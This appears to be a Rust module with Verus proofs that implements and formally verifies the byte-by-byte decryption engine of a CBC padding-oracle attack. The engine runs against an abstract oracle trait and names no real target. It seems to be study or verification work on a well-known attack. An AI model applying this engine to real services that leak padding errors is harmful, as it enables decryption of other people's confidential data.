//! Recovery of the intermediate value of one ciphertext block.
use vstd::prelude::*;
use crate::block::{Block, BLOCK_SIZE};
use crate::error::AttackError;
use crate::oracle::PaddingOracle;

verus! {

/// The crafted block with `candidate` written at the position that round
/// `pad` works on.
pub open spec fn probe(crafted: Seq<u8>, pad: int, candidate: u8) -> Seq<u8> {
    crafted.update(BLOCK_SIZE - pad, candidate)
}

/// `block` with the lowest bit of its last-but-one byte inverted.
pub open spec fn flip_neighbour(block: Seq<u8>) -> Seq<u8> {
    block.update(BLOCK_SIZE - 2, block[BLOCK_SIZE - 2] ^ 1u8)
}

/// Whether round `pad` accepts `candidate`: the oracle validates the probe
/// and, in the first round, also the probe with its neighbour bit flipped.
pub open spec fn accepted(
    answers: spec_fn(Seq<u8>, Seq<u8>) -> bool,
    crafted: Seq<u8>,
    target: Seq<u8>,
    pad: int,
    candidate: u8,
) -> bool {
    &&& answers(probe(crafted, pad, candidate), target)
    &&& pad == 1 ==> answers(flip_neighbour(probe(crafted, pad, candidate)), target)
}

/// `candidate` is accepted and no smaller byte is.
pub open spec fn is_first_accepted(
    answers: spec_fn(Seq<u8>, Seq<u8>) -> bool,
    crafted: Seq<u8>,
    target: Seq<u8>,
    pad: int,
    candidate: u8,
) -> bool {
    &&& accepted(answers, crafted, target, pad, candidate)
    &&& forall|lower: u8| lower < candidate ==> !accepted(answers, crafted, target, pad, lower)
}

/// The smallest byte that round `pad` accepts, if any.
pub open spec fn first_accepted(
    answers: spec_fn(Seq<u8>, Seq<u8>) -> bool,
    crafted: Seq<u8>,
    target: Seq<u8>,
    pad: int,
) -> Option<u8> {
    if exists|c: u8| is_first_accepted(answers, crafted, target, pad, c) {
        Some(choose|c: u8| is_first_accepted(answers, crafted, target, pad, c))
    } else {
        None
    }
}

/// Tries the bytes `0..=255` in order at the position of round `pad` and
/// returns the first one that is accepted.  The crafted block keeps the last
/// byte tried at that position.
pub fn find_candidate<O: PaddingOracle>(
    oracle: &mut O,
    crafted: &mut Block,
    target: &Block,
    pad: usize,
) -> (found: Option<u8>)
    requires
        1 <= pad <= BLOCK_SIZE,
    ensures
        found == first_accepted(old(oracle).answers(), old(crafted)@, target@, pad as int),
        final(oracle).answers() == old(oracle).answers(),
        final(crafted)@ == probe(
            old(crafted)@,
            pad as int,
            match found {
                Some(c) => c,
                None => 255u8,
            },
        ),
{
    let position = BLOCK_SIZE - pad;
    let ghost answers = oracle.answers();
    let ghost start = crafted@;
    let mut candidate: u16 = 0;
    let mut found: Option<u8> = None;
    while candidate < 256
        invariant_except_break
            found is None,
            candidate == 0 ==> crafted@ == start,
            candidate > 0 ==> crafted@ == probe(start, pad as int, (candidate - 1) as u8),
        invariant
            candidate <= 256,
            start.len() == BLOCK_SIZE,
            1 <= pad <= BLOCK_SIZE,
            position == BLOCK_SIZE - pad,
            oracle.answers() == answers,
            forall|lower: u8| lower < candidate ==> !accepted(answers, start, target@, pad as int, lower),
        ensures
            found matches Some(c) ==> is_first_accepted(answers, start, target@, pad as int, c)
                && crafted@ == probe(start, pad as int, c),
            found is None ==> candidate == 256 && crafted@ == probe(start, pad as int, 255u8),
        decreases 256 - candidate,
    {
        let byte = candidate as u8;
        crafted[position] = byte;
        assert(crafted@ =~= probe(start, pad as int, byte));
        let mut hit = oracle.check(crafted, target);
        if hit && pad == 1 {
            let mut flipped: Block = *crafted;
            flipped[BLOCK_SIZE - 2] = flipped[BLOCK_SIZE - 2] ^ 1u8;
            assert(flipped@ =~= flip_neighbour(crafted@));
            hit = oracle.check(&flipped, target);
        }
        if hit {
            found = Some(byte);
            break;
        }
        candidate += 1;
    }
    proof {
        match found {
            Some(c) => {
                let chosen = choose|c: u8| is_first_accepted(answers, start, target@, pad as int, c);
                assert(chosen == c);
            },
            None => {},
        }
    }
    found
}

/// The crafted block prepared for the round after `pad`: every byte from
/// position `BLOCK_SIZE - pad` on is set so that the victim's plaintext there
/// reads `pad + 1`; the bytes before stay as they are.
pub open spec fn retarget(crafted: Seq<u8>, intermediate: Seq<u8>, pad: int) -> Seq<u8> {
    Seq::new(
        crafted.len(),
        |j: int|
            if j >= BLOCK_SIZE - pad {
                intermediate[j] ^ ((pad + 1) as u8)
            } else {
                crafted[j]
            },
    )
}

/// Crafted block and intermediate value after round `pad`, or `None` when no
/// candidate is accepted in that round.
pub open spec fn after_round(
    answers: spec_fn(Seq<u8>, Seq<u8>) -> bool,
    crafted: Seq<u8>,
    intermediate: Seq<u8>,
    target: Seq<u8>,
    pad: int,
) -> Option<(Seq<u8>, Seq<u8>)> {
    match first_accepted(answers, crafted, target, pad) {
        Some(c) => {
            let known = intermediate.update(BLOCK_SIZE - pad, c ^ (pad as u8));
            Some((retarget(crafted, known, pad), known))
        },
        None => None,
    }
}

/// The all-zero block.
pub open spec fn zero_block() -> Seq<u8> {
    Seq::new(BLOCK_SIZE as nat, |j: int| 0u8)
}

/// Crafted block and intermediate value after the rounds `1..=rounds`,
/// starting from the reference block, or `None` when one of them fails.
pub open spec fn after_rounds(
    answers: spec_fn(Seq<u8>, Seq<u8>) -> bool,
    reference: Seq<u8>,
    target: Seq<u8>,
    rounds: nat,
) -> Option<(Seq<u8>, Seq<u8>)>
    decreases rounds,
{
    if rounds == 0 {
        Some((reference, zero_block()))
    } else {
        match after_rounds(answers, reference, target, (rounds - 1) as nat) {
            Some((crafted, intermediate)) => after_round(
                answers,
                crafted,
                intermediate,
                target,
                rounds as int,
            ),
            None => None,
        }
    }
}

/// What the engine recovers for `target`: the intermediate value after all
/// `BLOCK_SIZE` rounds, or `None` when a round finds no candidate.
pub open spec fn intermediate_value(
    answers: spec_fn(Seq<u8>, Seq<u8>) -> bool,
    reference: Seq<u8>,
    target: Seq<u8>,
) -> Option<Seq<u8>> {
    match after_rounds(answers, reference, target, BLOCK_SIZE as nat) {
        Some((_, intermediate)) => Some(intermediate),
        None => None,
    }
}

/// One round of the engine: finds the byte for position `BLOCK_SIZE - pad`,
/// records the intermediate byte it reveals and prepares the crafted block
/// for the next round.  Every crafted byte from that position on then equals
/// the recovered intermediate byte XOR `pad + 1`.
pub fn run_round<O: PaddingOracle>(
    oracle: &mut O,
    crafted: &mut Block,
    intermediate: &mut Block,
    target: &Block,
    pad: usize,
) -> (outcome: Result<(), AttackError>)
    requires
        1 <= pad <= BLOCK_SIZE,
    ensures
        final(oracle).answers() == old(oracle).answers(),
        match after_round(
            old(oracle).answers(),
            old(crafted)@,
            old(intermediate)@,
            target@,
            pad as int,
        ) {
            Some((next, known)) => {
                &&& outcome is Ok
                &&& final(crafted)@ == next
                &&& final(intermediate)@ == known
            },
            None => {
                &&& outcome == Err::<(), AttackError>(AttackError::OracleExhausted)
                &&& final(intermediate)@ == old(intermediate)@
            },
        },
        outcome is Ok ==> forall|j: int|
            BLOCK_SIZE - pad <= j < BLOCK_SIZE ==> final(crafted)@[j] == final(intermediate)@[j]
                ^ ((pad + 1) as u8),
{
    let position = BLOCK_SIZE - pad;
    let candidate = match find_candidate(oracle, crafted, target, pad) {
        Some(c) => c,
        None => {
            return Err(AttackError::OracleExhausted);
        },
    };
    intermediate[position] = candidate ^ (pad as u8);
    let ghost probed = crafted@;
    let ghost known = intermediate@;
    let next_pad = (pad + 1) as u8;
    let mut j: usize = position;
    while j < BLOCK_SIZE
        invariant
            position <= j <= BLOCK_SIZE,
            position == BLOCK_SIZE - pad,
            next_pad == pad + 1,
            intermediate@ == known,
            probed.len() == BLOCK_SIZE,
            forall|k: int|
                0 <= k < position || j <= k < BLOCK_SIZE ==> #[trigger] crafted@[k] == probed[k],
            forall|k: int| position <= k < j ==> #[trigger] crafted@[k] == known[k] ^ next_pad,
        decreases BLOCK_SIZE - j,
    {
        crafted[j] = intermediate[j] ^ next_pad;
        j += 1;
    }
    assert(crafted@ =~= retarget(old(crafted)@, known, pad as int));
    Ok(())
}

/// The block decryption engine: recovers the intermediate value of `target`,
/// the raw block-cipher output before the CBC XOR, with at most 256 candidate
/// probes in each of its `BLOCK_SIZE` rounds.  `reference` is the block that
/// precedes `target` in the chain; the engine works on its own copy.
pub fn decrypt_block<O: PaddingOracle>(oracle: &mut O, reference: &Block, target: &Block) -> (outcome:
    Result<Block, AttackError>)
    ensures
        final(oracle).answers() == old(oracle).answers(),
        match intermediate_value(old(oracle).answers(), reference@, target@) {
            Some(value) => outcome matches Ok(block) && block@ == value,
            None => outcome == Err::<Block, AttackError>(AttackError::OracleExhausted),
        },
{
    let ghost answers = oracle.answers();
    let mut crafted: Block = *reference;
    let mut intermediate: Block = [0u8; BLOCK_SIZE];
    assert(intermediate@ =~= zero_block());
    let mut pad: usize = 1;
    while pad <= BLOCK_SIZE
        invariant
            1 <= pad <= BLOCK_SIZE + 1,
            oracle.answers() == answers,
            answers == old(oracle).answers(),
            after_rounds(answers, reference@, target@, (pad - 1) as nat) == Some(
                (crafted@, intermediate@),
            ),
        decreases BLOCK_SIZE + 1 - pad,
    {
        match run_round(oracle, &mut crafted, &mut intermediate, target, pad) {
            Ok(()) => {},
            Err(e) => {
                proof {
                    lemma_failure_is_final(answers, reference@, target@, pad as nat);
                }
                return Err(e);
            },
        }
        pad += 1;
    }
    Ok(intermediate)
}

/// Once a round has failed, every later round count fails too.
pub proof fn lemma_failure_is_final(
    answers: spec_fn(Seq<u8>, Seq<u8>) -> bool,
    reference: Seq<u8>,
    target: Seq<u8>,
    failed: nat,
)
    requires
        after_rounds(answers, reference, target, failed) is None,
    ensures
        forall|rounds: nat|
            failed <= rounds ==> #[trigger] after_rounds(answers, reference, target, rounds) is None,
{
    assert forall|rounds: nat| failed <= rounds implies #[trigger] after_rounds(
        answers,
        reference,
        target,
        rounds,
    ) is None by {
        lemma_failure_persists(answers, reference, target, failed, rounds);
    }
}

proof fn lemma_failure_persists(
    answers: spec_fn(Seq<u8>, Seq<u8>) -> bool,
    reference: Seq<u8>,
    target: Seq<u8>,
    failed: nat,
    rounds: nat,
)
    requires
        after_rounds(answers, reference, target, failed) is None,
        failed <= rounds,
    ensures
        after_rounds(answers, reference, target, rounds) is None,
    decreases rounds,
{
    if rounds > failed {
        lemma_failure_persists(answers, reference, target, failed, (rounds - 1) as nat);
    }
}

} // verus!
